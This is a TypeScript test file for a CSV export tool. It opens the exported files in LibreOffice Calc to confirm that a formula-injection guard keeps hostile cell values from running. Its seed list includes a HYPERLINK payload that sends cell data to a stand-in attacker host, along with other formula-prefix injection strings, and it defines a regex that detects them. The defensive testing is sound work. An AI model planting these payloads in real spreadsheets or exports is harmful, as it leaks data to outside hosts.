import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/exports/manifest.js';
import { installOps } from '../harness/database.js';
import { makeFolder } from '../harness/folder.js';
import { openInCalc, type SheetCell, SOFFICE } from './calc.js';
import { type ExportWorld, exportWorld, manifestIn } from './world.js';

/** As docs/exports.md says: comma, double quote, UTF-8, from the first line, quoted fields are texts. */
const QUOTED_ARE_TEXTS = 'CSV:44,34,76,1,,0,true';
/** UTF-8, and for the rest whatever Calc may do with a csv: recognise special numbers, and run formulas. */
const AS_IT_COMES = 'CSV:44,34,76,1,,0,false,true,false,false,false,0,true';

const HOSTILE = [
  '=HYPERLINK("http://evil.example?"&A1;"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '=1+1',
  ' =1+1',
  "'quoted",
  'say "hi", she said',
  'line\nfeed',
  'carriage\r\nreturn',
  '"=1+1"',
  '  two spaces  inside  ',
  '👩‍🍳 größe 日本語',
  '12:30',
  '1,234',
  '00123',
  '1e5',
  '3/4',
  'TRUE',
  '2026-03-01',
  '50%',
  '$5.00',
  'a;b',
  'x'.repeat(5000),
];
const IDS = ['007', '1e5', '3/4', '0x1F', '1.0', 'MAR1', '2026-03-08'];
const CENTS = [10, 123_456_789, -500, 2_147_483_647, 1, 0, 100_000];
/** Around both clock changes of New York, in UTC; each is placed on another day there. */
const TIMES = ['2026-03-08T04:59:59.999', '2026-03-08T07:00:00', '2026-11-01T03:59:59.001', '2026-11-01T06:30:00'];

const EXPORTS: [name: string, more: readonly string[]][] = [
  ['orders', []],
  ['customers', ['--columns', 'customer_id,name,phone,email,is_active,category,tags,total_orders,total_spent,notes']],
  ['sms', ['--columns', 'message_id,created_at,business_day,status,customer_phone,error_code,message_length,message']],
  ['tax', []],
  ['invoices', []],
  ['changes', []],
];

describe.skipIf(SOFFICE === undefined)('in LibreOffice Calc, skipped where soffice is not installed', () => {
  const folder = makeFolder();
  let world: ExportWorld;
  /** Values as they are in the database, by another program's parser. */
  const stored = new Map<string, Record<string, string>[]>();
  const manifests = new Map<string, Manifest>();
  let asText: Map<string, SheetCell[][]>;
  let asItComes: Map<string, SheetCell[][]>;

  beforeAll(async () => {
    world = await exportWorld();
    await installOps(world);
    await seed(world);
    await seedHistory(world);
    await seedChanges(world);
    for (const [name, more] of EXPORTS) {
      const args = [name, '--from', '2026-03-01', '--to', '2026-12-01', ...more];
      stored.set(name, await world.rows([...args, '--raw']));
      for (const [file, options] of [
        [`${name}.csv`, []],
        [`${name}-excel.csv`, ['--excel']],
        [`${name}-raw.csv`, ['--raw']],
      ] as const) {
        const { code, stderr } = await world.run([...args, ...options, '--output', `${folder.path}/${file}`]);
        if (code !== 0) throw new Error(stderr);
        manifests.set(file, manifestIn(folder.path, file));
      }
    }
    const names = EXPORTS.map(([name]) => name);
    asText = await openInCalc(
      folder.path,
      names.map((name) => `${name}-excel.csv`),
      QUOTED_ARE_TEXTS,
    );
    asItComes = await openInCalc(
      folder.path,
      names.flatMap((name) => [`${name}.csv`, `${name}-raw.csv`]),
      AS_IT_COMES,
    );
  });
  afterAll(async () => {
    await world?.drop();
    folder.remove();
  });

  /** The rows of a file without its header, by column. Throws where a row has more or fewer cells than the header. */
  function sheet(opened: Map<string, SheetCell[][]>, file: string): Record<string, SheetCell>[] {
    const columns = manifests.get(file)?.columns.map(({ key }) => key) ?? [];
    const [header = [], ...rows] = opened.get(file) ?? [];
    expect(header.map(({ value }) => value)).toEqual(columns);
    return rows.map((cells) => {
      expect(cells).toHaveLength(columns.length);
      return Object.fromEntries(columns.map((key, place) => [key, cells[place] ?? EMPTY]));
    });
  }

  it.each(EXPORTS)('%s for a spreadsheet: every cell is what it was, and none runs', (name) => {
    const file = `${name}-excel.csv`;
    const columns = manifests.get(file)?.columns ?? [];
    const rows = stored.get(name) ?? [];
    expect(rows.length).toBeGreaterThan(1);
    expect(sheet(asText, file)).toEqual(
      rows.map((row) =>
        Object.fromEntries(columns.map(({ key, type, guarded }) => [key, meant(row[key] ?? '', type, guarded)])),
      ),
    );
  });

  it('for a spreadsheet: phones, ids and amounts are those that were seeded', () => {
    const orders = sheet(asText, 'orders-excel.csv');
    const cell = (id: string, key: string) => orders.find(({ order_id }) => order_id?.value === id)?.[key];
    for (const [place, id] of IDS.entries()) {
      expect(cell(id, 'order_id')).toEqual({ formula: null, type: 'string', value: id });
      expect(cell(id, 'customer_phone')).toEqual({ formula: null, type: 'string', value: `+1404555${1000 + place}` });
      expect(cell(id, 'total_amount')).toEqual(number((CENTS[place] ?? 0) / 100));
    }
    const days = TIMES.map((_, place) => cell(`t${place}`, 'business_day')?.value);
    expect(days).toEqual(['2026-03-07', '2026-03-08', '2026-10-31', '2026-11-01']);
    expect(cell('t0', 'created_at')).toEqual({ formula: null, type: 'string', value: '2026-03-08T04:59:59.999Z' });
  });

  it('for a spreadsheet: amounts of invoices and values of the ledger are those that were seeded', () => {
    const invoices = sheet(asText, 'invoices-excel.csv');
    const march = invoices.find(
      ({ month, business_id }) => month?.value === '2026-03' && business_id?.value === '0099',
    );
    expect(march).toMatchObject({
      ...{ business_name: text("'=1+1"), tier: text("'=1+1"), orders: number(HOSTILE.length) },
      ...{ subscription: number(95), number_fee: number(30), total_due: number(125), days_seen: number(1) },
    });
    expect(sheet(asText, 'changes-excel.csv')).toEqual(
      HOSTILE.map((value, place) =>
        expect.objectContaining({
          ...{ row_id: text(`00${place}`), reason: meant(value, 'text', true), changed_at: text(CHANGED_AT) },
          ...{
            before: place === 0 ? EMPTY : text(`{"name": "+14045550123"}`),
            after: text(`{"name": ${JSON.stringify(value)}}`),
          },
        }),
      ),
    );
  });

  it.each(EXPORTS)('%s as it is: no formula, nothing shifted, amounts are numbers', (name) => {
    const file = `${name}.csv`;
    const columns = manifests.get(file)?.columns ?? [];
    const cells = sheet(asItComes, file);
    const rows = stored.get(name) ?? [];
    expect(cells.flatMap((row) => Object.values(row)).filter(({ formula }) => formula !== null)).toEqual([]);
    for (const { key, type, guarded } of columns) {
      const found = cells.map((row) => row[key]);
      if (['cents', 'integer', 'day', 'time'].includes(type))
        expect(found).toEqual(rows.map((row) => meant(row[key] ?? '', type, guarded)));
      const risky = rows.flatMap((row, place) => (guarded && isRisky(row[key] ?? '') ? [place] : []));
      expect(risky.map((place) => found[place])).toEqual(
        risky.map((place) => meant(rows[place]?.[key] ?? '', type, guarded)),
      );
    }
  });

  it('as it is: Calc takes what looks like a number for one, as the table in docs/exports.md says', () => {
    const orders = sheet(asItComes, 'orders.csv');
    const cellOf = (customer: string, key: string) =>
      orders.find(({ customer_id }) => customer_id?.value === customer)?.[key];
    expect(cellOf('c1', 'customer_phone')).toEqual(number(14045551001));
    const ids = orders.map(({ order_id }) => order_id);
    expect(ids).toEqual(expect.arrayContaining([number(7), number(100_000)]));
    expect(ids).toContainEqual({ formula: null, type: 'date', value: expect.stringMatching(/^\d{4}-03-04$/) });
    const kindOf = (text: string) => cellOf(`c${HOSTILE.indexOf(text)}`, 'delivery_time')?.type;
    expect(['12:30', '50%', 'TRUE', 'a;b'].map(kindOf)).toEqual(['time', 'percentage', 'boolean', 'string']);
  });

  it('with --raw, formulas run: what the guard is for, and what these tests would see', () => {
    const running = sheet(asItComes, 'orders-raw.csv').flatMap(({ customer_name: name }) =>
      name === undefined || name.formula === null ? [] : [name],
    );
    expect(running.map(({ value }) => value)).toEqual(expect.arrayContaining(['click', '2']));
  });
});

const EMPTY: SheetCell = { formula: null, type: 'empty', value: '' };

function text(value: string): SheetCell {
  return { formula: null, type: 'string', value };
}

function number(value: number): SheetCell {
  return { formula: null, type: 'float', value: String(value) };
}

function isRisky(text: string): boolean {
  return /^[=+\-@\t\r\n＝＋－＠]/.test(text);
}

/** The cell that a value of the database should become. A spreadsheet knows one kind of line end. */
function meant(value: string, type: string, guarded: boolean): SheetCell {
  if (value === '') return EMPTY;
  if (type === 'cents' || type === 'integer') return number(Number(value));
  if (type === 'day') return { formula: null, type: 'date', value };
  if (type === 'boolean') return { formula: null, type: 'boolean', value };
  return text((guarded && isRisky(value) ? `'${value}` : value).replace(/\r\n?/g, '\n'));
}

async function seed(world: ExportWorld): Promise<void> {
  const numberProvisionedAt = '2026-03-15T12:00:00';
  await world.make('business_customers', { id: '0099', businessName: '=1+1', state: '+NY', numberProvisionedAt });
  for (const [place, text] of HOSTILE.entries()) {
    const createdAt = `2026-03-10T12:00:${String(place).padStart(2, '0')}`;
    await world.make('customers', {
      ...{ id: `c${place}`, name: text, phoneNumber: `+1404555${1000 + place}`, email: text, category: text },
      ...{
        notes: text,
        tags: [text, 'x'],
        totalOrders: place,
        totalSpent: place * 101,
        isActive: place % 2 === 0,
        createdAt,
      },
    });
    await world.make('orders', {
      ...{ id: `h${place}`, customerId: `c${place}`, deliveryTime: text, createdAt },
      ...{ items: [{ name: text, quantity: 2, price: 5 }], businessId: '0099' },
    });
    await world.make('sms_logs', {
      ...{ id: `00${place}`, customerId: `c${place}`, message: text, errorCode: text, createdAt },
    });
  }
  for (const [place, id] of IDS.entries())
    await world.make('orders', {
      ...{ id, customerId: `c${place}`, totalAmount: CENTS[place], platformFee: place % 2 === 0 ? null : 5 },
      ...{ businessId: null, createdAt: '2026-05-05T12:00:00' },
    });
  for (const [place, createdAt] of TIMES.entries())
    await world.make('orders', { id: `t${place}`, customerId: 'c0', businessId: null, createdAt });
}

/** A day of each month of the period, with a tier that no platform has. */
async function seedHistory(world: ExportWorld): Promise<void> {
  await world.query(
    `INSERT INTO ops.business_health (day, business_id, subscription_status, subscription_tier, is_active, mrr_cents, has_number,
       monthly_limit, current_usage, orders_28d, sold_orders_28d, gmv_28d_cents, fee_28d_cents, refreshed_at)
     SELECT day, '0099', 'active', '=1+1', true, 9500, true, 1, 0, 0, 0, 0, 0, now()
     FROM generate_series(date '2026-03-20', '2026-11-20', '1 month') AS day`,
  );
}

const CHANGED_AT = '2026-03-08T04:59:59.999Z';

/** A ledger as no run has written it. */
async function seedChanges(world: ExportWorld): Promise<void> {
  await world.query(
    `WITH run AS (
       INSERT INTO ops.runs (id, command, arguments, version, host, started_at, status)
       VALUES (gen_random_uuid(), '=1+1', '{}', '0', 'here', $1, 'running') RETURNING id
     )
     INSERT INTO ops.change_log (run_id, table_name, row_id, before, after, reason, at)
     SELECT run.id, '@customers', '00' || place - 1, CASE WHEN place > 1 THEN '{"name": "+14045550123"}'::jsonb END,
       jsonb_build_object('name', value), value, $1
     FROM run, unnest($2::text[]) WITH ORDINALITY AS list (value, place) ORDER BY place`,
    [CHANGED_AT, HOSTILE],
  );
}
